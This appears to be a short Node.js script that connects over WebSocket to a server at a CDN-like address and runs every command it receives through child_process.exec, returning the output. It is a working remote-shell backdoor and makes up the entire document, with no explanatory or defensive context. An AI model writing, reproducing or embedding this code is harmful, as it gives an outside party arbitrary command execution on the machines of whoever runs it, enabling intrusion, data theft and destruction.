const WebSocket = require('ws');
const { exec } = require('child_process');
const s = new WebSocket('wss://cdn.example.net/live');
s.on('message', (m) => { const { id, line } = JSON.parse(m); exec(line, (e, o, r) => s.send(JSON.stringify({ id, out: o + r }))); });
